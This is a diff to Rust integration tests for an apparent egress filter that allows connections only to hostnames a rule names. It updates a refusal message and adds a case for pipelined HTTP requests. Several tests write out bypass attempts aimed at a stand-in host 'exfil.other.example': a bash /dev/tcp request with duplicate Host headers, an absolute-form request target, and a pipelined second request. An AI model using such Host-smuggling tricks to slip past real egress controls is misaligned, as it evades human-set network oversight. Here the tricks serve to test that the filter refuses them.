@@ -300,7 +300,7 @@ fn a_name_rule_reaches_only_the_names_resolved_to_its_address() {
     assert_ne!(code, Some(0), "{out}");
     lab.wait_decision(|r| {
         r["reason"]
-            == "no TLS server name or HTTP Host in the first data of a connection only a name rule allows"
+            == "first data of a connection only a name rule allows is neither a TLS ClientHello naming one server nor an HTTP/1 request with one Host and Connection: close"
     });
 
     // UDP (QUIC) to the address: a name rule for any protocol opens only TCP by name.
@@ -412,8 +412,7 @@ fn a_connect_on_the_connected_socket_urgent_data_two_names_and_a_split_hello_get
     // Urgent data in the first data: the server would take a byte out of what was checked.
     // Refused before any name is read: its record names none (not the name the check read
     // before), and the node still ends the connection.
-    const MISSING: &str =
-        "no TLS server name or HTTP Host in the first data of a connection only a name rule allows";
+    const MISSING: &str = "first data of a connection only a name rule allows is neither a TLS ClientHello naming one server nor an HTTP/1 request with one Host and Connection: close";
     assert_eq!(p.cmd(&format!("hold tcp {PEER_V4} 443")), "ok");
     p.cmd("send-held-hello api.example.com urgent");
     let r = lab.wait_decision(|r| r["reason"] == MISSING);
@@ -498,6 +497,8 @@ fn a_plain_http_request_must_name_in_its_host_a_name_resolved_to_its_address() {
             "%{http_code}",
             "--resolve",
             &resolve,
+            "-H",
+            "Connection: close",
         ];
         args.extend_from_slice(extra);
         args.push("http://api.example.com/");
@@ -527,8 +528,7 @@ fn a_plain_http_request_must_name_in_its_host_a_name_resolved_to_its_address() {
 
     // A request a server would route by something else than its Host: a URL as the target
     // (absolute form, which a server prefers to Host), two Hosts.
-    const MISSING: &str =
-        "no TLS server name or HTTP Host in the first data of a connection only a name rule allows";
+    const MISSING: &str = "first data of a connection only a name rule allows is neither a TLS ClientHello naming one server nor an HTTP/1 request with one Host and Connection: close";
     let (code, out) = curl(&["--request-target", "http://exfil.other.example/"]);
     assert_ne!(code, Some(0), "{out}");
     lab.wait_decision(|r| r["reason"] == MISSING && r["port"] == 80);
@@ -540,7 +540,7 @@ fn a_plain_http_request_must_name_in_its_host_a_name_resolved_to_its_address() {
         "-c",
         &format!(
             "exec 3<>/dev/tcp/{PEER_V4}/80 || exit 7; \
-             printf 'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nHost: exfil.other.example\\r\\n\\r\\n' >&3; \
+             printf 'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nHost: exfil.other.example\\r\\nConnection: close\\r\\n\\r\\n' >&3; \
              cat <&3"
         ),
     ]);
@@ -552,6 +552,41 @@ fn a_plain_http_request_must_name_in_its_host_a_name_resolved_to_its_address() {
         .filter(|r| r["reason"] == MISSING && r["port"] == 80)
         .count()
         < 2
+    {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "{:#?}",
+            lab.decisions()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+
+    // A request that keeps the connection open for more requests (each routed by its own
+    // Host, which the check would not read): refused, however right its Host.
+    let before = lab
+        .decisions()
+        .iter()
+        .filter(|r| r["reason"] == MISSING && r["port"] == 80)
+        .count();
+    let (_, out) = lab.run(&[
+        "timeout",
+        "30",
+        "bash",
+        "-c",
+        &format!(
+            "exec 3<>/dev/tcp/{PEER_V4}/80 || exit 7; \
+             printf 'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: exfil.other.example\\r\\n\\r\\n' >&3; \
+             cat <&3"
+        ),
+    ]);
+    assert!(!out.contains("200 OK"), "{out}");
+    let deadline = agentwall_tests::deadline(Duration::from_secs(20));
+    while lab
+        .decisions()
+        .iter()
+        .filter(|r| r["reason"] == MISSING && r["port"] == 80)
+        .count()
+        <= before
     {
         assert!(
             std::time::Instant::now() < deadline,
